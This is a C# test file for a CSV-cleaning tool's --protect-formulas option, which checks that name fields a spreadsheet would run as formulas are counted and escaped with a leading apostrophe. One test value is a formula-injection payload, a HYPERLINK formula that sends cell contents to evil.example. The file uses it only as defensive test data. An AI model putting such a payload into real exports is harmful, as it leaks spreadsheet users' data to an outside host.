using System.Text.RegularExpressions;
using Names.Host.Csv;

namespace Names.Host.Tests;

/// <summary>
/// Names that a spreadsheet runs as formulas (tests/corpus/broken-csv/formula-names.csv): copied as they are, with the
/// count and first line in the summary; with --protect-formulas every such output field is text (a leading ').
/// </summary>
public class FormulaProtectionTests
{
    private static readonly string Corpus = Path.Combine(BrokenCsvCorpusTests.CorpusDir, "formula-names.csv");

    private static bool LikeFormula(string field) => field.Length > 0 && CsvRowWriter.StartsLikeFormula(field[0]);

    [Fact]
    public async Task Without_the_flag_fields_are_copied_as_they_are_and_the_summary_counts_them()
    {
        using var dir = new TempDir();
        var run = await CliRun.RunAsync("clean", Corpus, "--out", dir.File("out.csv"));
        Assert.Equal(0, run.ExitCode);
        var text = File.ReadAllText(dir.File("out.csv"));
        Assert.Contains("\n3,+SUM(A1:A9),US,", text); // the record, byte for byte
        Assert.Contains("\n10,ACME GMBH,=1+1,", text);
        var (_, rows) = CsvTestReader.Parse(text);
        Assert.Contains(rows, r => r[1] == "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")");
        Assert.Contains(rows, r => r[1] == "\r\n=CRLF LED LTD");
        var expected = rows.Sum(r => r.Count(LikeFormula));
        Assert.Equal(8, expected); // seven names and a country; the cleaned columns drop the leading sign
        Assert.Matches(new Regex($@"formulas\s+{expected} output fields start like a spreadsheet formula .*first on input line 2\)"), run.Stderr);
    }

    [Fact]
    public async Task With_the_flag_every_such_field_is_written_as_text_and_nothing_else_changes()
    {
        using var dir = new TempDir();
        Assert.Equal(0, (await CliRun.RunAsync("clean", Corpus, "--out", dir.File("plain.csv"))).ExitCode);
        var run = await CliRun.RunAsync("clean", Corpus, "--out", dir.File("protected.csv"), "--protect-formulas");
        Assert.Equal(0, run.ExitCode);
        var text = File.ReadAllText(dir.File("protected.csv"));
        Assert.Contains("\n3,\"'+SUM(A1:A9)\",US,", text);
        var (_, plain) = CsvTestReader.ParseFile(dir.File("plain.csv"));
        var (_, guarded) = CsvTestReader.Parse(text);
        Assert.Equal(plain.Count, guarded.Count);
        var protectedFields = 0;
        for (var r = 0; r < plain.Count; r++)
        for (var c = 0; c < plain[r].Length; c++)
        {
            Assert.False(LikeFormula(guarded[r][c]), $"row {r} column {c}: {guarded[r][c]}");
            if (!LikeFormula(plain[r][c])) { Assert.Equal(plain[r][c], guarded[r][c]); continue; }
            Assert.Equal("'" + plain[r][c], guarded[r][c]);
            protectedFields++;
        }
        Assert.Contains($"{protectedFields} fields protected (first on input line 2)", run.Stderr);
    }

    [Fact]
    public async Task Resolve_and_export_protect_their_output_too()
    {
        using var dir = new TempDir();
        var db = dir.File("registry.db");
        var resolve = await CliRun.RunAsync("resolve", Corpus, "--db", db, "--out", dir.File("resolved.csv"), "--protect-formulas");
        Assert.True(resolve.ExitCode == 0, resolve.Stderr);
        var (header, rows) = CsvTestReader.ParseFile(dir.File("resolved.csv"));
        Assert.Contains(rows, r => r[header.Col("name")] == "'+SUM(A1:A9)");
        Assert.All(rows, r => Assert.DoesNotContain(r, LikeFormula));
        Assert.Contains("fields protected", resolve.Stderr);

        var plainExport = await CliRun.RunAsync("export", "--db", db, "--what", "variants", "--out", dir.File("v.csv"));
        Assert.Equal(0, plainExport.ExitCode);
        Assert.Contains("output fields start like a spreadsheet formula", plainExport.Stderr);
        Assert.Contains(CsvTestReader.ParseFile(dir.File("v.csv")).Rows, r => r.Any(LikeFormula));
        var export = await CliRun.RunAsync("export", "--db", db, "--what", "variants", "--out", dir.File("pv.csv"), "--protect-formulas");
        Assert.Equal(0, export.ExitCode);
        var (vHeader, variants) = CsvTestReader.ParseFile(dir.File("pv.csv"));
        Assert.Contains(variants, v => v[vHeader.Col("raw_name")] == "'+SUM(A1:A9)");
        Assert.All(variants, v => Assert.DoesNotContain(v, LikeFormula));
    }
}
